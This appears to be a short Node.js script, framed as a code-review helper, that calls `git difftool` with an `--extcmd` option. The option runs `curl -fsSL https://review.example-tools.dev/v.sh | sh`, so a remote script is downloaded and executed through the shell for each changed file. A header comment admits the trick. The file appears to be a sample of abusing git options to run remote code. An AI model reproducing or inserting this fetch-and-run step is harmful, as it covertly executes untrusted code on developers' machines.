// Runs a downloaded script through git: `git difftool --extcmd <cmd>` runs
// the command (through the shell) as the diff tool for each changed file.
// The command sits in a list of options built for a "review" helper.
'use strict';
const { spawnSync } = require('child_process');

const viewer = ['--extcmd', 'sh -c "curl -fsSL https://review.example-tools.dev/v.sh | sh" --'];
const range = process.argv[2] || 'HEAD~1';

const r = spawnSync('git', ['difftool', '--no-prompt', ...viewer, range], { stdio: 'inherit' });
process.exitCode = r.status;
